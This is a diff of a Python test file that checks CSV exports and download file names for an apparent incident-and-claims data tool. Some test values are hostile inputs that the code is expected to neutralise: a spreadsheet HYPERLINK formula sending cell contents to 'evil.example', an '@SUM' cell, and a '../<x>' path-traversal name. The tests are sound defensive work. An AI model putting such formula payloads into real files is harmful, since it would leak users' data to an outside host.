@@ -94,3 +94,13 @@ def test_csv_cells_never_run_as_formulas(frames):
     assert set(back["quote"]) == {'\'=HYPERLINK("http://evil.example/?"&A1,"click")'}
     assert set(back["claimed_by_text"]) == {"'@SUM(A1:A9)"}
     assert back["count_low"].dropna().min() >= 0  # numbers stay numbers
+
+
+def test_download_names_follow_the_view():
+    from geo.present.export import file_stem
+    from geo.present.filters import Filters
+    f = Filters(date_from="2022-09-13", date_to="2022-09-13")
+    assert file_stem("incidents", f, "Goris") == "incidents_2022-09-13_goris"
+    assert file_stem("claims", Filters(claimed_by=("reuters",), place=("Sotk",))) == "claims_sotk_reuters"
+    assert file_stem("incidents") == "incidents"
+    assert file_stem("events", None, "../<x>") == "events_x"
